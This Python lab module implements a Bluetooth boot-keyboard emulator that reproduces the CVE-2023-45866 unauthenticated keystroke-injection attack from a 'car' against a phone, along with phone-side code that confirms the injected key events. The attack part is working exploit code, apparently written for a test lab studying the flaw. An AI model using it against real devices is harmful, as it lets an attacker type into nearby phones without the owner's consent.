# SPDX-License-Identifier: LGPL-2.1-or-later
"""A keyboard, both ends of it, for the lab's lying car and the phone it attacks.

The car's half: the boot keyboard of the HID specification (its report descriptor and
8-byte input report), the HID SDP record a BR/EDR keyboard publishes (what the phone's
bluetoothd reads at pairing before it treats a device as an input device), and HID
over L2CAP as a keyboard opens it: control (PSM 17), then interrupt (PSM 19), then a
key press on the interrupt channel. This is what the public CVE-2023-45866 proof of
concept does; it is written here from the HID profile, not copied.

The phone's half: the input devices the phone's kernel has (/proc/bus/input/devices),
the ones a Bluetooth device made (their "uniq" is the device's address), and the key
events one of them delivers (evdev), so "the car typed into the phone" is observed at
the phone, not taken from a log."""

import errno
import os
import select
import socket
import struct

import labkit

PSM_CONTROL = 17
PSM_INTERRUPT = 19
HID_UUID = "00001124-0000-1000-8000-00805f9b34fb"
# bluetoothd's input plugin owns the HID UUID, so a record of one's own is registered
# through ProfileManager1 under a private UUID; the record itself says HID.
RECORD_PROFILE_UUID = "8e3c5a2e-8f7b-4c1e-9d6a-6361726b6264"

# The keyboard report descriptor of the HID 1.11 specification, appendix B.1: modifiers,
# a reserved byte, five LEDs, six key codes.
BOOT_KEYBOARD = bytes([
    0x05, 0x01, 0x09, 0x06, 0xA1, 0x01,                    # Generic Desktop, Keyboard
    0x05, 0x07, 0x19, 0xE0, 0x29, 0xE7, 0x15, 0x00, 0x25, 0x01,
    0x75, 0x01, 0x95, 0x08, 0x81, 0x02,                    # 8 modifier bits
    0x95, 0x01, 0x75, 0x08, 0x81, 0x01,                    # reserved byte
    0x95, 0x05, 0x75, 0x01, 0x05, 0x08, 0x19, 0x01, 0x29, 0x05, 0x91, 0x02,  # LEDs
    0x95, 0x01, 0x75, 0x03, 0x91, 0x01,                    # LED padding
    0x95, 0x06, 0x75, 0x08, 0x15, 0x00, 0x25, 0x65,
    0x05, 0x07, 0x19, 0x00, 0x29, 0x65, 0x81, 0x00,        # six key codes
    0xC0,
])

USAGE_A = 0x04       # keyboard usage "a"
KEY_A = 30           # linux/input-event-codes.h
EV_KEY = 1
DATA_INPUT = 0xA1    # HIDP header: DATA, input report

KEYBOARD_CLASS = "5,64"  # btmgmt class: major peripheral, minor keyboard (0x002540)


def key_report(usage=0):
    """The boot keyboard's input report: no modifier, USAGE pressed (0: all released)."""
    return bytes([0, 0, usage, 0, 0, 0, 0, 0])


def sdp_record(name="Keyboard"):
    """The HID SDP record of a boot keyboard, as ProfileManager1's ServiceRecord XML.
    HIDReconnectInitiate true and HIDNormallyConnectable false: the keyboard connects,
    the host never calls it back (bluetoothd's reconnect mode "device")."""
    descriptor = BOOT_KEYBOARD.hex()
    name = name.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")

    def l2cap(psm):
        return ('<sequence><sequence><uuid value="0x0100"/><uint16 value="0x%04x"/></sequence>'
                '<sequence><uuid value="0x0011"/></sequence></sequence>' % psm)

    attributes = [
        (0x0001, '<sequence><uuid value="0x1124"/></sequence>'),
        (0x0004, l2cap(PSM_CONTROL)),
        (0x0005, '<sequence><uuid value="0x1002"/></sequence>'),
        (0x0006, '<sequence><uint16 value="0x656e"/><uint16 value="0x006a"/>'
                 '<uint16 value="0x0100"/></sequence>'),
        (0x0009, '<sequence><sequence><uuid value="0x1124"/><uint16 value="0x0101"/>'
                 '</sequence></sequence>'),
        (0x000D, f"<sequence>{l2cap(PSM_INTERRUPT)}</sequence>"),
        (0x0100, f'<text value="{name}"/>'),
        (0x0201, '<uint16 value="0x0111"/>'),             # HIDParserVersion
        (0x0202, '<uint8 value="0x40"/>'),                # HIDDeviceSubclass: keyboard
        (0x0203, '<uint8 value="0x00"/>'),                # HIDCountryCode
        (0x0204, '<boolean value="true"/>'),              # HIDVirtualCable
        (0x0205, '<boolean value="true"/>'),              # HIDReconnectInitiate
        (0x0206, '<sequence><sequence><uint8 value="0x22"/>'
                 f'<text encoding="hex" value="{descriptor}"/></sequence></sequence>'),
        (0x0207, '<sequence><sequence><uint16 value="0x0409"/><uint16 value="0x0100"/>'
                 '</sequence></sequence>'),
        (0x020B, '<uint16 value="0x0100"/>'),             # HIDProfileVersion
        (0x020C, '<uint16 value="0x0c80"/>'),             # HIDSupervisionTimeout
        (0x020D, '<boolean value="false"/>'),             # HIDNormallyConnectable
        (0x020E, '<boolean value="true"/>'),              # HIDBootDevice
    ]
    body = "".join(f'<attribute id="0x{aid:04x}">{value}</attribute>' for aid, value in attributes)
    return f'<?xml version="1.0" encoding="UTF-8" ?><record>{body}</record>'


def open_keyboard(local, remote, timeout=20):
    """HID as a keyboard opens it, from LOCAL to REMOTE: control, then interrupt.
    Returns ({"control": errno name or None, "interrupt": ...}, [open sockets]); a key
    press goes on the last one (type_key). A keyboard stays connected: the caller
    closes the sockets."""
    result, held = {"control": None, "interrupt": None}, []
    for key, psm in (("control", PSM_CONTROL), ("interrupt", PSM_INTERRUPT)):
        try:
            held.append(_connect(local, remote, psm, timeout))
        except OSError as e:
            result[key] = labkit.errno_name(e)
            break
    return result, held


def _connect(local, remote, psm, timeout, retry=True):
    s = socket.socket(socket.AF_BLUETOOTH, socket.SOCK_SEQPACKET, socket.BTPROTO_L2CAP)
    s.settimeout(timeout)
    try:
        s.bind((local, 0))
        s.connect((remote, psm))
    except OSError as e:
        s.close()
        # A connect that meets the teardown of the idle link it was to run on is reset;
        # a keyboard tries again on a new link.
        if retry and e.errno == errno.ECONNRESET:
            return _connect(local, remote, psm, timeout, retry=False)
        raise
    return s


def type_key(interrupt, usage=USAGE_A):
    """A key press and release on the interrupt channel; None or the errno name."""
    try:
        interrupt.send(bytes([DATA_INPUT]) + key_report(usage))
        interrupt.send(bytes([DATA_INPUT]) + key_report(0))
    except OSError as e:
        return labkit.errno_name(e)
    return None


# ---------------------------------------------------------------- the phone's side

def input_devices():
    """The kernel's input devices: [{"name", "phys", "uniq", "handlers": [...]}]."""
    devices, current = [], {}
    try:
        with open("/proc/bus/input/devices") as f:
            lines = f.read().splitlines()
    except OSError:
        return []
    for line in lines + [""]:
        if not line.strip():
            if current:
                devices.append(current)
            current = {}
            continue
        kind, _, rest = line.partition(": ")
        if kind == "N":
            current["name"] = rest.partition("=")[2].strip('"')
        elif kind == "P":
            current["phys"] = rest.partition("=")[2]
        elif kind == "U":
            current["uniq"] = rest.partition("=")[2]
        elif kind == "H":
            current["handlers"] = rest.partition("=")[2].split()
    return devices


def input_devices_of(address):
    """The input devices a Bluetooth device made on this machine: hidp and bluetoothd's
    uhid (HOGP) both set "uniq" to the device's address."""
    return [d for d in input_devices() if d.get("uniq", "").lower() == address.lower()]


class KeyEvents:
    """The key events of one input device, read from its evdev node."""

    def __init__(self, device):
        handler = next((h for h in device.get("handlers", []) if h.startswith("event")), None)
        self.fd = os.open(f"/dev/input/{handler}", os.O_RDONLY | os.O_NONBLOCK) if handler else None

    def close(self):
        if self.fd is not None:
            os.close(self.fd)
            self.fd = None

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        self.close()

    def keys(self, timeout):
        """Key codes pressed within TIMEOUT seconds (returns at the first one)."""
        if self.fd is None:
            return []
        size = struct.calcsize("llHHi")
        pressed = []
        r, _, _ = select.select([self.fd], [], [], timeout)
        while r:
            try:
                data = os.read(self.fd, size * 16)
            except BlockingIOError:
                break
            for i in range(0, len(data) - size + 1, size):
                _, _, kind, code, value = struct.unpack("llHHi", data[i:i + size])
                if kind == EV_KEY and value == 1:
                    pressed.append(code)
            r, _, _ = select.select([self.fd], [], [], 0)
        return pressed
